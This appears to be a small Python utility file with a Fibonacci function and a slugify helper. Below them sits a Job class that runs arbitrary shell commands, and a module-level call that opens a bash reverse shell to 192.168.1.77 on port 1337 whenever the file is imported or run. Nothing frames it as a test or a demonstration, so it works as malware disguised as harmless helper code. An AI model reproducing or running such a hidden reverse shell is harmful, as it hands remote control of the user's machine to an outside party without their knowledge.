def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
